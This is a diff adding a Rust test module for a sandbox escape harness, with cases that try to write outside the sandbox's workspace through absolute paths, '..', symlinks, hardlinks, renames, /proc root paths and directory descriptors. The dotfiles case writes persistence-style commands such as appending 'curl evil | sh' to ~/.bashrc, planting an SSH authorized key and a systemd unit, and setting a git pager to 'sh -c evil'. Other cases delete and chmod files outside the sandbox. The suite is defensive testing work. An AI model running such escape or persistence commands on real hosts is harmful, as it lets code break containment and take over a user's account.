@@ -1,0 +1,324 @@
+//! Class 1: writes outside the writable set, judged on the host.
+
+use std::os::unix::fs::MetadataExt;
+use std::path::Path;
+
+use super::harness::{Ctx, qp};
+use super::matrix::Outcome;
+use super::{Case, Class};
+
+pub fn cases() -> Vec<Case> {
+    let c = Class::Writes;
+    vec![
+        Case::attack(
+            "writes/absolute",
+            c,
+            "create a file by absolute path in a host directory the user can write",
+            absolute,
+        ),
+        Case::attack(
+            "writes/relative-dotdot",
+            c,
+            "create files through `..` from the workspace (its parent, the home, a sibling)",
+            dotdot,
+        ),
+        Case::attack(
+            "writes/symlink-planted",
+            c,
+            "write through a symlink planted in the workspace before the run, and one made inside",
+            symlink,
+        ),
+        Case::attack(
+            "writes/hardlink",
+            c,
+            "hardlink an outside file into the workspace, then write through the link",
+            hardlink,
+        ),
+        Case::attack(
+            "writes/rename",
+            c,
+            "rename a workspace file over an outside file; move an outside file away",
+            rename,
+        ),
+        Case::attack(
+            "writes/host-tmp",
+            c,
+            "create files in the host's /tmp, /var/tmp and /dev/shm",
+            host_tmp,
+        ),
+        Case::attack(
+            "writes/home-dotfiles",
+            c,
+            "append to ~/.bashrc, create ~/.profile, ~/.ssh/authorized_keys, autostart entries",
+            dotfiles,
+        ),
+        Case::attack(
+            "writes/metadata",
+            c,
+            "truncate, chmod, touch and remove an outside file; mkdir and rmdir outside",
+            metadata,
+        ),
+        Case::attack(
+            "writes/proc-paths",
+            c,
+            "write outside through /proc/self/root, /proc/1/root, /proc/self/cwd/..",
+            proc_paths,
+        ),
+        Case::attack(
+            "writes/dir-fd",
+            c,
+            "openat(O_CREAT) relative to a directory descriptor opened outside the workspace",
+            dir_fd,
+        ),
+    ]
+}
+
+fn exists(p: &Path) -> bool {
+    std::fs::symlink_metadata(p).is_ok()
+}
+
+fn absolute(ctx: &Ctx<'_>) -> Outcome {
+    let target = ctx.outside.join("absolute.txt");
+    let out = ctx.sh(&format!("echo pwned > {}", qp(&target)));
+    ctx.judge(
+        &out,
+        exists(&target),
+        format!("{} exists on host: {}", target.display(), exists(&target)),
+    )
+}
+
+fn dotdot(ctx: &Ctx<'_>) -> Outcome {
+    let targets = [
+        ctx.home.join("dotdot-home.txt"),
+        ctx.outside.join("dotdot-sibling.txt"),
+        ctx.dir.join("dotdot-parent.txt"),
+    ];
+    let out = ctx.sh(
+        "echo x > ../dotdot-home.txt; echo x > ../../outside/dotdot-sibling.txt; \
+         echo x > ./sub/../../../dotdot-parent.txt 2>/dev/null; mkdir -p sub; \
+         echo x > ./sub/../../../dotdot-parent.txt",
+    );
+    let hit: Vec<String> = targets
+        .iter()
+        .filter(|t| exists(t))
+        .map(|t| t.display().to_string())
+        .collect();
+    ctx.judge(&out, !hit.is_empty(), format!("created on host: {hit:?}"))
+}
+
+fn symlink(ctx: &Ctx<'_>) -> Outcome {
+    let planted = ctx.work.join("planted-link");
+    if let Err(e) = std::os::unix::fs::symlink(&ctx.outside, &planted) {
+        return Outcome::new(super::Verdict::Inconclusive, format!("harness: {e}"));
+    }
+    let _ = ctx.own(&planted);
+    let a = ctx.outside.join("via-planted.txt");
+    let b = ctx.outside.join("via-made.txt");
+    let out = ctx.sh(&format!(
+        "echo x > planted-link/via-planted.txt; ln -s {} made-link; echo x > made-link/via-made.txt; \
+         ln -s {} made-file-link; echo x > made-file-link",
+        qp(&ctx.outside),
+        qp(&ctx.outside.join("via-file-link.txt"))
+    ));
+    let c = ctx.outside.join("via-file-link.txt");
+    let hit = exists(&a) || exists(&b) || exists(&c);
+    ctx.judge(
+        &out,
+        hit,
+        format!(
+            "outside files created: {} {} {}",
+            exists(&a),
+            exists(&b),
+            exists(&c)
+        ),
+    )
+}
+
+fn hardlink(ctx: &Ctx<'_>) -> Outcome {
+    let target = ctx.outside.join("victim.txt");
+    if let Err(e) = ctx.plant(&target, "ORIGINAL\n") {
+        return Outcome::new(super::Verdict::Inconclusive, format!("harness: {e}"));
+    }
+    let out = ctx.sh(&format!(
+        "ln {t} hl 2>&1; echo pwned >> hl 2>&1; ln -P {t} hl2 2>&1; echo pwned >> hl2",
+        t = qp(&target)
+    ));
+    let now = std::fs::read_to_string(&target).unwrap_or_default();
+    let links = std::fs::metadata(&target).map(|m| m.nlink()).unwrap_or(0);
+    ctx.judge(
+        &out,
+        now != "ORIGINAL\n" || links > 1,
+        format!("victim now {now:?}, {links} link(s)"),
+    )
+}
+
+fn rename(ctx: &Ctx<'_>) -> Outcome {
+    let victim = ctx.outside.join("victim.txt");
+    let movable = ctx.outside.join("movable.txt");
+    for p in [&victim, &movable] {
+        if let Err(e) = ctx.plant(p, "ORIGINAL\n") {
+            return Outcome::new(super::Verdict::Inconclusive, format!("harness: {e}"));
+        }
+    }
+    let out = ctx.sh(&format!(
+        "echo evil > new.txt; mv -f new.txt {v}; mv -f {m} ./stolen.txt; \
+         echo evil > new2.txt; python3 -c 'import os,sys; os.rename(sys.argv[1], sys.argv[2])' new2.txt {v}",
+        v = qp(&victim),
+        m = qp(&movable)
+    ));
+    let v = std::fs::read_to_string(&victim).unwrap_or_default();
+    let moved = !exists(&movable);
+    ctx.judge(
+        &out,
+        v != "ORIGINAL\n" || moved,
+        format!("victim now {v:?}; outside file moved away: {moved}"),
+    )
+}
+
+fn host_tmp(ctx: &Ctx<'_>) -> Outcome {
+    let name = format!("cordon-escape-{}", ctx.token);
+    let targets = [
+        Path::new("/tmp").join(&name),
+        Path::new("/var/tmp").join(&name),
+        Path::new("/dev/shm").join(&name),
+    ];
+    let out = ctx.sh(&format!(
+        "for d in /tmp /var/tmp /dev/shm; do echo x > $d/{name}; done; mkdir -p /tmp/{name}.d"
+    ));
+    let hit: Vec<String> = targets
+        .iter()
+        .chain([&Path::new("/tmp").join(format!("{name}.d"))])
+        .filter(|t| exists(t))
+        .map(|t| t.display().to_string())
+        .collect();
+    for t in &targets {
+        let _ = std::fs::remove_file(t);
+    }
+    let _ = std::fs::remove_dir(Path::new("/tmp").join(format!("{name}.d")));
+    ctx.judge(
+        &out,
+        !hit.is_empty(),
+        format!("created on the host: {hit:?}"),
+    )
+}
+
+fn dotfiles(ctx: &Ctx<'_>) -> Outcome {
+    let bashrc = ctx.home.join(".bashrc");
+    if let Err(e) = ctx.plant(&bashrc, "# ORIGINAL\n") {
+        return Outcome::new(super::Verdict::Inconclusive, format!("harness: {e}"));
+    }
+    let created = [
+        ".profile",
+        ".ssh/authorized_keys",
+        ".config/autostart/evil.desktop",
+        ".gitconfig",
+        ".bash_logout",
+        ".config/systemd/user/evil.service",
+    ];
+    let out = ctx.sh(
+        "echo 'curl evil | sh' >> ~/.bashrc; echo evil > ~/.profile; \
+         echo 'ssh-ed25519 AAAA evil' >> ~/.ssh/authorized_keys; \
+         mkdir -p ~/.config/autostart ~/.config/systemd/user; echo evil > ~/.config/autostart/evil.desktop; \
+         echo evil > ~/.config/systemd/user/evil.service; \
+         git config --global core.pager 'sh -c evil'; echo evil > ~/.bash_logout",
+    );
+    let rc = std::fs::read_to_string(&bashrc).unwrap_or_default();
+    let hit: Vec<&str> = created
+        .iter()
+        .copied()
+        .filter(|p| exists(&ctx.home.join(p)))
+        .filter(|p| {
+            // .ssh/authorized_keys: the sentinel .ssh dir exists, the key file must not.
+            std::fs::read_to_string(ctx.home.join(p)).is_ok_and(|t| t.contains("evil"))
+        })
+        .collect();
+    ctx.judge(
+        &out,
+        rc != "# ORIGINAL\n" || !hit.is_empty(),
+        format!(
+            "~/.bashrc changed: {}; created: {hit:?}",
+            rc != "# ORIGINAL\n"
+        ),
+    )
+}
+
+fn metadata(ctx: &Ctx<'_>) -> Outcome {
+    use std::os::unix::fs::PermissionsExt;
+    let victim = ctx.outside.join("victim.txt");
+    let victim_dir = ctx.outside.join("victim-dir");
+    if let Err(e) = ctx.plant(&victim_dir.join("keep.txt"), "ORIGINAL\n") {
+        return Outcome::new(super::Verdict::Inconclusive, format!("harness: {e}"));
+    }
+    if let Err(e) = ctx.plant(&victim, "ORIGINAL\n") {
+        return Outcome::new(super::Verdict::Inconclusive, format!("harness: {e}"));
+    }
+    let before = std::fs::metadata(&victim).ok();
+    let out = ctx.sh(&format!(
+        ": > {v}; chmod 777 {v}; touch -d 2001-01-01 {v}; rm -f {v}; rm -rf {d}; mkdir {o}/new-dir",
+        v = qp(&victim),
+        d = qp(&victim_dir),
+        o = qp(&ctx.outside)
+    ));
+    let after = std::fs::metadata(&victim).ok();
+    let content = std::fs::read_to_string(&victim).unwrap_or_default();
+    let changed = match (&before, &after) {
+        (Some(b), Some(a)) => {
+            b.permissions().mode() != a.permissions().mode() || b.mtime() != a.mtime()
+        }
+        _ => true,
+    };
+    let hit = changed
+        || content != "ORIGINAL\n"
+        || !exists(&victim_dir.join("keep.txt"))
+        || exists(&ctx.outside.join("new-dir"));
+    ctx.judge(
+        &out,
+        hit,
+        format!(
+            "content {content:?}, mode/mtime changed: {changed}, dir kept: {}, new dir: {}",
+            exists(&victim_dir.join("keep.txt")),
+            exists(&ctx.outside.join("new-dir"))
+        ),
+    )
+}
+
+fn dir_fd(ctx: &Ctx<'_>) -> Outcome {
+    let target = ctx.outside.join("via-dirfd.txt");
+    let out = ctx.py(&format!(
+        "import os\n\
+         for d in [{o:?}, {h:?}]:\n\
+         \x20   try:\n\
+         \x20       fd = os.open(d, os.O_RDONLY | os.O_DIRECTORY)\n\
+         \x20       f = os.open('via-dirfd.txt', os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)\n\
+         \x20       os.write(f, b'pwned')\n\
+         \x20       print('CREATED under', d)\n\
+         \x20   except OSError as e:\n\
+         \x20       print(d, e)\n",
+        o = ctx.outside.display().to_string(),
+        h = ctx.home.display().to_string()
+    ));
+    let home_hit = ctx.home.join("via-dirfd.txt");
+    let hit = exists(&target) || exists(&home_hit);
+    ctx.judge(&out, hit, super::harness::cut(&out.out, 300))
+}
+
+fn proc_paths(ctx: &Ctx<'_>) -> Outcome {
+    let names = ["via-self-root", "via-pid1-root", "via-cwd"];
+    let o = ctx.outside.display().to_string();
+    let out = ctx.sh(&format!(
+        "echo x > /proc/self/root{o}/via-self-root; echo x > /proc/1/root{o}/via-pid1-root; \
+         echo x > /proc/self/cwd/../../outside/via-cwd; \
+         for p in /proc/[0-9]*/root; do echo x > \"$p{o}/via-any-root\" 2>/dev/null; done; true"
+    ));
+    let hit: Vec<&str> = names
+        .iter()
+        .chain(["via-any-root"].iter())
+        .copied()
+        .filter(|n| exists(&ctx.outside.join(n)))
+        .collect();
+    ctx.judge(
+        &out,
+        !hit.is_empty(),
+        format!("created on the host: {hit:?}"),
+    )
+}
